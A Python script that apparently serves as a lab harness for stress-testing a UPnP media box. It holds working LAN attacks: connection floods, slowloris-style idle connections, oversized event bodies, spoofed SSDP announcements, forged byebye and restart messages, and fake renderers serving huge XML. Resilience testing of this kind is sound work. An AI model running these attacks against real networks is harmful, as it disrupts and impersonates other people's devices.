"""attacks.py NAME SECONDS [ARGUMENT]: one attack from the LAN. Everything is bounded by its time."""

import asyncio
import socket
import sys
import time

from room import BOX, CONTROL_PORT, MEDIA_PORT, TELEVISIONS, attackers

GROUP = ("239.255.255.250", 1900)
TYPE = "urn:schemas-upnp-org:device:MediaRenderer:1"
PORT = 7777


def speaker(address):
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind((address, 0))
    udp.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(address))
    return udp


def notify(location, usn, kind="alive", boot=None):
    boot = "" if boot is None else f"BOOTID.UPNP.ORG: {boot}\r\n"
    return (
        f"NOTIFY * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nCACHE-CONTROL: max-age=1800\r\nLOCATION: {location}\r\nNT: {TYPE}\r\n"
        f"NTS: ssdp:{kind}\r\n{boot}USN: {usn}::{TYPE}\r\n\r\n").encode()


async def paced(seconds, each_second, work):
    """Calls `work` with 0, 1, 2… so often."""
    begun, number = time.monotonic(), 0
    while (passed := time.monotonic() - begun) < seconds:
        while number < passed * each_second:
            work(number)
            number += 1
        await asyncio.sleep(0.005)


async def until_over(seconds, work):
    try:
        await asyncio.wait_for(work, seconds)
    except asyncio.TimeoutError:
        pass


async def again_and_again(address, port, talk):
    """Connects from this address, talks, and connects again when it is cut off."""
    while True:
        try:
            reader, writer = await asyncio.open_connection(*port, local_addr=address and (address, 0))
            try:
                await talk(reader, writer)
            finally:
                writer.close()
        except (OSError, asyncio.IncompleteReadError):
            pass
        await asyncio.sleep(0.01)


async def line_ends(seconds, port=(BOX, MEDIA_PORT), addresses=None):
    """Eight connections send nothing but line ends."""
    async def talk(_, writer):
        while True:
            writer.write(b"\r\n" * 32768)
            await writer.drain()
    hosts = addresses or attackers()[:8]
    await until_over(seconds, asyncio.gather(*(again_and_again(host, port, talk) for host in hosts)))


async def line_ends_at_home(seconds):
    """The same at the control port, from the machine of the box."""
    await line_ends(seconds, ("127.0.0.1", CONTROL_PORT), [None] * 8)


async def events(seconds):
    """48 hosts send events that belong to no subscription, with bodies that are hard to read."""
    body = b"</" * (128 << 10)
    head = f"NOTIFY /e/1 HTTP/1.1\r\nHost: x\r\nSID: uuid:none\r\nSEQ: 1\r\nContent-Length: {len(body)}\r\n\r\n".encode()
    async def talk(reader, writer):
        writer.write(head + body)
        await writer.drain()
        await reader.read()
    await until_over(seconds, asyncio.gather(*(again_and_again(host, (BOX, MEDIA_PORT), talk) for host in attackers())))


async def idle(seconds, path):
    """48 hosts hold connections: half of them say nothing, the others ask for a file and do not read it."""
    async def say_nothing(reader, _):
        await reader.read()
    async def read_nothing(reader, writer):
        writer.transport.pause_reading()
        writer.write(f"GET {path} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        await asyncio.sleep(seconds)
    talks = [(host, talk) for host in attackers() for talk in (say_nothing, read_nothing) for _ in range(2)]
    await until_over(seconds, asyncio.gather(*(again_and_again(host, (BOX, MEDIA_PORT), talk) for host, talk in talks)))


def made_up(address, number):
    service = (
        "<service><serviceType>urn:schemas-upnp-org:service:AVTransport:1</serviceType><serviceId>x</serviceId><SCPDURL/>"
        "<controlURL>/c</controlURL><eventSubURL/></service>")
    return (
        f"<root><device><deviceType>{TYPE}</deviceType><friendlyName>Made up {number}</friendlyName><UDN>uuid:{address}-{number}</UDN>"
        f"<serviceList>{service}</serviceList></device></root>")


async def serve_made_up(address, answer):
    async def serve(reader, writer):
        try:
            head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1")
            answer(head, writer)
            await writer.drain()
        except (OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
            pass
        writer.close()
    await asyncio.start_server(serve, address, PORT)


def sized(writer, body):
    writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\nConnection: close\r\n\r\n" % len(body) + body)


async def strangers(seconds):
    """64 made-up renderers on four hosts, and a thousand datagrams a second that name others."""
    hosts = attackers()[:4]
    for host in hosts:
        def answer(head, writer, host=host):
            number = head.split(" ")[1].strip("/").split(".")[0]
            sized(writer, made_up(host, number).encode() if head.startswith("GET") else b"<x/>")
        await serve_made_up(host, answer)
    speakers = {host: speaker(host) for host in attackers()}

    def speak(number):
        host = attackers()[number % 48]
        known = hosts[number % 4]
        speakers[known].sendto(notify(f"http://{known}:{PORT}/{number % 16}.xml", f"uuid:{known}-{number % 16}"), GROUP)
        speakers[host].sendto(notify(f"http://{host}:{PORT}/{number}.xml", f"uuid:nobody-{number}"), GROUP)

    await paced(seconds, 500, speak)


async def boots(seconds):
    """A renderer seems to restart a thousand times a second, from its own address."""
    udp = speaker(TELEVISIONS[0])
    location = f"http://{TELEVISIONS[0]}:49494/d.xml"
    await paced(seconds, 1000, lambda number: udp.sendto(notify(location, "uuid:siege-tv1", boot=number + 2), GROUP))


async def forged(seconds):
    """Somebody says that a renderer leaves, restarts, or is elsewhere."""
    udp = speaker(attackers()[0])
    own, other = f"http://{TELEVISIONS[0]}:49494/d.xml", f"http://{attackers()[0]}:{PORT}/1.xml"
    texts = (
        lambda n: notify(own, "uuid:siege-tv1", "byebye"), lambda n: notify(own, "uuid:siege-tv1", boot=n),
        lambda n: notify(other, "uuid:siege-tv1"))
    await paced(seconds, 300, lambda number: udp.sendto(texts[number % 3](number), GROUP))


async def bodies(seconds):
    """Sixteen made-up renderers: half have descriptions of 2 MiB, the others answer with bodies that are hard to read."""
    hosts = attackers()[:16]
    for index, host in enumerate(hosts):
        def answer(head, writer, index=index, host=host):
            if not head.startswith("GET"):
                sized(writer, b"</" * (1 << 20))
            elif index % 2:
                sized(writer, made_up(host, 1).encode() + b"<a b='" * 350_000)
            else:
                sized(writer, made_up(host, 1).encode())
        await serve_made_up(host, answer)
    speakers = [speaker(host) for host in hosts]

    def speak(number):
        host = hosts[number % 16]
        speakers[number % 16].sendto(notify(f"http://{host}:{PORT}/{number % 64}.xml", f"uuid:{host}-1"), GROUP)

    await paced(seconds, 64, speak)


if __name__ == "__main__":
    NAME, SECONDS, *MORE = sys.argv[1:]
    asyncio.run(globals()[NAME](float(SECONDS), *MORE))
